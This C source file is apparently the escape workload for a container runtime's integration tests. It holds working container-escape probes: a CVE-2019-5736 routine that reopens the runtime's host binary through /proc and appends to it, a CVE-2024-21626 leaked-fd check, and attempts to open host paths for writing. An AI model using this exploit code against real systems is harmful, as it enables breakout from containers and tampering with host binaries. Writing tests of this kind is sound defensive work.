/* The hostile workload of tests/integration/test_escapes.sh, run inside a
 * container (static, no libc beyond the kernel's): each subcommand tries
 * one way out and prints what it got; the test decides.
 *
 *   exe SIZE     CVE-2019-5736: watch /proc for a process whose exe is a
 *                file of SIZE bytes (cella's binary, exec'd into the
 *                container through a `#!/proc/self/exe` script), keep it
 *                open, and once that process is gone reopen it for writing
 *                through /proc/self/fd and append to it. Prints
 *                "exe: write: OK" when the binary was reached, else why not.
 *   fds          CVE-2024-21626: the open fds beyond 0-2, with their
 *                targets, and where /proc/self/cwd points.
 *   write PATH...  open each PATH for writing: "PATH: opened for writing",
 *                "PATH: /dev/null" (masked) or the error.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <time.h>
#include <unistd.h>

static int find_exe(off_t size, pid_t *who)
{
    DIR *d = opendir("/proc");
    if (d == NULL)
        return -1;
    struct dirent *e;
    int fd = -1;
    while (fd < 0 && (e = readdir(d)) != NULL) {
        pid_t pid = atoi(e->d_name);
        if (pid <= 1 || pid == getpid())
            continue;
        char path[64];
        snprintf(path, sizeof(path), "/proc/%d/exe", pid);
        int f = open(path, O_RDONLY | O_CLOEXEC);
        struct stat st;
        if (f >= 0 && fstat(f, &st) == 0 && st.st_size == size) {
            fd = f;
            *who = pid;
        } else if (f >= 0) {
            close(f);
        }
    }
    closedir(d);
    return fd;
}

static int exe_attack(off_t size)
{
    pid_t who = 0;
    int fd = -1;
    /* Bounded: 60 s of polling. */
    for (long i = 0; fd < 0 && i < 600000; i++) {
        fd = find_exe(size, &who);
        if (fd < 0) {
            struct timespec ts = {0, 100000};
            nanosleep(&ts, NULL);
        }
    }
    if (fd < 0) {
        printf("exe: never seen\n");
        return 0;
    }
    printf("exe: opened that of pid %d\n", who);
    fflush(stdout);
    for (int i = 0; i < 100000 && kill(who, 0) == 0; i++) {
        struct timespec ts = {0, 1000000};
        nanosleep(&ts, NULL);
    }
    char path[64];
    snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
    /* Busy while any process executes it: retried (10 s), as the
     * attack would, until the host's commands are done with it. */
    int w = open(path, O_WRONLY | O_APPEND);
    for (int i = 0; w < 0 && errno == ETXTBSY && i < 1000; i++) {
        struct timespec ts = {0, 10000000};
        nanosleep(&ts, NULL);
        w = open(path, O_WRONLY | O_APPEND);
    }
    if (w < 0) {
        printf("exe: reopen for writing: %s\n", strerror(errno));
        return 0;
    }
    ssize_t n = write(w, "pwned", 5);
    printf("exe: write: %s\n", n == 5 ? "OK" : strerror(errno));
    return 0;
}

static int list_fds(void)
{
    DIR *d = opendir("/proc/self/fd");
    if (d == NULL)
        return 1;
    struct dirent *e;
    while ((e = readdir(d)) != NULL) {
        int fd = atoi(e->d_name);
        if (e->d_name[0] == '.' || fd <= 2 || fd == dirfd(d))
            continue;
        char path[64], target[4096];
        snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
        ssize_t n = readlink(path, target, sizeof(target) - 1);
        target[n < 0 ? 0 : n] = '\0';
        printf("fd %d: %s\n", fd, target);
    }
    closedir(d);
    char cwd[4096];
    ssize_t n = readlink("/proc/self/cwd", cwd, sizeof(cwd) - 1);
    cwd[n < 0 ? 0 : n] = '\0';
    printf("cwd: %s\n", cwd);
    return 0;
}

static int write_one(const char *path)
{
    /* Opening for writing is the attack: nothing is written (a success on
     * the host's /proc/sys would change the host). A masked path opens the
     * container's /dev/null (char 1:3), which is no way out. */
    int fd = open(path, O_WRONLY);
    struct stat st;
    if (fd < 0)
        printf("%s: %s\n", path, strerror(errno));
    else if (fstat(fd, &st) == 0 && S_ISCHR(st.st_mode) && st.st_rdev == makedev(1, 3))
        printf("%s: /dev/null\n", path);
    else
        printf("%s: opened for writing\n", path);
    if (fd >= 0)
        close(fd);
    return 0;
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc > 2 && strcmp(argv[1], "exe") == 0)
        return exe_attack(atoll(argv[2]));
    if (argc > 1 && strcmp(argv[1], "fds") == 0)
        return list_fds();
    if (argc > 2 && strcmp(argv[1], "write") == 0) {
        for (int i = 2; i < argc; i++)
            write_one(argv[i]);
        return 0;
    }
    fprintf(stderr, "usage: attack exe SIZE | fds | write PATH...\n");
    return 2;
}
